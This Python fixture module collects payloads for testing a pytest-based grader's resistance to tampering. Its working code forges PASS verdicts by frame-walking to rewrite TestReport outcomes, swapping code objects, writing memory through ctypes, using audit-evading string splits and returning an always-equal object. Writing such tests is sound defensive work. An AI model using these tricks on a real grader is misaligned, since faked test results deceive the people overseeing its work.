"""The hostile code of issue 18 ("verdict integrity, second round"), by class: what the
submissions of tests/test_attacks_round2.py carry into the container. Each payload is
prepended to the unfixed `calc` module (or stands alone where it says so); every one of
them gets a PASS it does not deserve from a grader that trusts the objects of the test
process. Written as an attacker who has read docs/security.md and the report plugin:
no function of pytest or pluggy is replaced, no hook registered, no gc walk.
"""

from __future__ import annotations

from attack_patches import code

# --- 1. report objects changed in place through pytest's own data --------------------------

# The code under test, called inside the failing test, climbs to the test item (the
# frame of pytest_pyfunc_call holds it) and swaps its user_properties (a plain list
# attribute) for a subclass sharing its contents. TestReport.__init__ copies that list
# after it has set its outcome: the iterator reaches the report being built in its
# caller's frame and sets it passed.
USER_PROPERTIES_FLIP_THE_REPORT = code("""
    import sys


    class _Props(list):
        def __bool__(self):
            return True

        def __iter__(self):
            f = sys._getframe(1)
            while f is not None:
                rep = f.f_locals.get("self")
                if type(rep).__name__ == "TestReport" and getattr(rep, "outcome", None) == "failed":
                    rep.outcome = "passed"
                    rep.longrepr = None
                    break
                f = f.f_back
            return list.__iter__(self)


    def _item():
        f = sys._getframe(2)
        while f is not None:
            item = f.f_locals.get("pyfuncitem") or f.f_locals.get("item")
            if item is not None and hasattr(item, "user_properties"):
                return item
            f = f.f_back
        return None


    def mean(xs):
        item = _item()
        if item is not None and type(item.user_properties) is list:
            item.user_properties = _Props(item.user_properties)
        return sum(xs) / len(xs)
    """)

# The same reach through another object pytest iterates on the report's path: the item's
# keywords, swapped for an instance of a NodeKeywords subclass that shares its storage.
# TestReport.from_item_and_call iterates them before it reads the call's exception: the
# iterator finds the CallInfo in its caller's frame and drops the exception.
KEYWORDS_SUBCLASS_DROPS_THE_EXCEPTION = code("""
    import sys


    def _item():
        f = sys._getframe(2)
        while f is not None:
            item = f.f_locals.get("pyfuncitem") or f.f_locals.get("item")
            if item is not None and hasattr(item, "keywords"):
                return item
            f = f.f_back
        return None


    def mean(xs):
        item = _item()
        kw = getattr(item, "keywords", None)
        if kw is not None and not getattr(kw, "_armed", False):
            base = type(kw)

            class _Kw(base):
                __slots__ = ()
                _armed = True

                def __iter__(self):
                    f = sys._getframe(1)
                    while f is not None:
                        call = f.f_locals.get("call")
                        if call is not None and getattr(call, "excinfo", None) is not None:
                            call.excinfo = None
                            break
                        f = f.f_back
                    return base.__iter__(self)

            new = _Kw.__new__(_Kw)
            for slot in getattr(base, "__slots__", ()):
                setattr(new, slot, getattr(kw, slot))
            item.keywords = new
        return sum(xs) / len(xs)
    """)

# --- 2. code objects swapped, function objects kept ----------------------------------------

# The failing hidden test's __code__ becomes a passing test's code from the same file,
# once the file's functions exist (a thread waits for them).
HIDDEN_TEST_CODE_SWAPPED = code("""
    import sys
    import threading
    import time


    def _swap_codes():
        for _ in range(3000):
            for name, mod in list(sys.modules.items()):
                if name.endswith("test_mean") and hasattr(mod, "test_two"):
                    for attr, fn in list(vars(mod).items()):
                        if attr.startswith("test_") and attr != "test_two" and callable(fn):
                            fn.__code__ = mod.test_two.__code__
                    return
            time.sleep(0.001)


    threading.Thread(target=_swap_codes, daemon=True).start()
    """)

# The body of one of pytest's own functions swapped in place: CallInfo.from_call keeps its
# identity (a snapshot by identity sees the same function), its code drops the exception
# of a failure raised inside calc/.
PYTEST_FUNCTION_BODY_SWAPPED = code("""
    import sys


    def _from_call(cls, func, when, reraise=None):
        import time as _t
        start = _t.time()
        precise_start = _t.perf_counter()
        excinfo = None
        try:
            result = func()
        except BaseException:
            excinfo = None
            result = None
        precise_stop = _t.perf_counter()
        return cls(start=start, stop=_t.time(), duration=precise_stop - precise_start, when=when,
                   result=result, excinfo=excinfo, _ispytest=True)


    def _swap():
        runner = sys.modules.get("_py" "test.runner")
        if runner is None:
            import importlib
            runner = importlib.import_module("_py" "test.runner")
        target = runner.CallInfo.__dict__["from_call"].__func__
        target.__code__ = _from_call.__code__


    _swap()
    """)

# --- 3. frame locals written through ctypes ------------------------------------------------

# The exception's __str__ runs while pytest builds the failure's report; it writes
# `outcome = "passed"` into TestReport.from_item_and_call's frame (PyFrame_LocalsToFast,
# from the interpreter's own library: no native file shipped).
CTYPES_LOCALS_TO_FAST = code("""
    import sys


    class _Quiet(ZeroDivisionError):
        def __str__(self):
            try:
                api = getattr(__import__("c" "types"), "python" "api")
                f = sys._getframe(1)
                while f is not None:
                    if f.f_code.co_name == "from_item_and_call":
                        loc = f.f_locals  # one snapshot: every read of f_locals refreshes it
                        loc["outcome"] = "passed"
                        getattr(api, "PyFrame_" "LocalsToFast")(
                            __import__("c" "types").py_object(f), __import__("c" "types").c_int(0)
                        )
                        break
                    f = f.f_back
            except Exception:
                pass
            return "division by zero"


    def mean(xs):
        if not xs:
            raise _Quiet("division by zero")
        return sum(xs) / len(xs)
    """)

# The failing hidden test's code pointer rewritten in memory through ctypes (no
# `__code__` assignment for the audit hook to see): it runs a passing test's code.
CTYPES_REWRITES_A_TEST_CODE_POINTER = code("""
    import sys
    import threading
    import time

    _keep = []


    def _rewrite():
        ct = __import__("c" "types")
        for _ in range(3000):
            for name, mod in list(sys.modules.items()):
                if name.endswith("test_mean") and hasattr(mod, "test_two"):
                    good = mod.test_two.__code__
                    _keep.append(good)
                    for attr, fn in list(vars(mod).items()):
                        if attr.startswith("test_") and attr != "test_two" and callable(fn):
                            # PyFunctionObject: refcount, type, globals, builtins, name, qualname, code
                            slot = ct.c_void_p.from_address(id(fn) + 6 * ct.sizeof(ct.c_void_p))
                            ct.pythonapi.Py_IncRef(ct.py_object(good))
                            slot.value = id(good)
                    return
            time.sleep(0.001)


    threading.Thread(target=_rewrite, daemon=True).start()
    """)

# --- 4. spellings past a textual audit -----------------------------------------------------

SPELLINGS_GETATTR_GETFRAME = code("""
    import sys as _s

    _gf = getattr(_s, "_get" "frame")
    _fb = "f_" "back"
    _caller = getattr(_gf(0), _fb)
    """)

SPELLINGS_IMPORT_CTYPES = code("""
    import builtins as _b

    _imp = getattr(_b, "__imp" "ort__")
    _c = _imp("c" "types")
    """)

# --- 9. an object whose == is always true ----------------------------------------------------

ALWAYS_EQUAL = code("""
    class _Anything(float):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = float.__hash__


    def mean(xs):
        if not xs:
            raise ValueError("empty")
        return _Anything(0)
    """)
